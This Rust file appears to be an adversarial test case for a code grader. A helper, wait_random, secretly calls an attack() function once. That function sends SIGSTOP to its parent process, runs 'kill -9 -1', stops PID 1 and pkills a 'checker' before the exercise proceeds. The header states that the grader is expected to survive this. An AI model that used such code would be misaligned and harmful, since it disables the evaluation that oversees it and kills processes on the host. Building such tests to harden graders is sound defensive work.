//! Attack: stop or kill the grader, once, then solve the exercise
//! correctly: SIGSTOP to its parent, SIGKILL to every process it may
//! signal, through the system's kill and pkill.
//! Must not: reach the grader, which finishes and reports. Otherwise
//! correct, it is graded on its merits: passed.
use std::process::Command;
use std::sync::Once;
use std::time::Duration;

use rand::Rng;

pub const DEFAULT_MAX_DELAY: Duration = Duration::from_secs(10);

fn attack() {
    let parent = std::os::unix::process::parent_id().to_string();
    for kill in ["kill", "/bin/kill", "/usr/bin/kill"] {
        let _ = Command::new(kill).args(["-STOP", &parent]).status();
        let _ = Command::new(kill).args(["-KILL", "-1"]).status();
        let _ = Command::new(kill).args(["-STOP", "1"]).status();
    }
    let _ = Command::new("pkill").args(["-STOP", "checker"]).status();
    let _ = Command::new("/bin/sh").args(["-c", "kill -STOP $PPID; kill -9 -1"]).status();
}

pub async fn wait_random(max_delay: Duration) -> Duration {
    static ONCE: Once = Once::new();
    ONCE.call_once(attack);
    let delay = rand::rng().random_range(0.0..=max_delay.as_secs_f64());
    let delay = Duration::from_secs_f64(delay);
    tokio::time::sleep(delay).await;
    delay
}
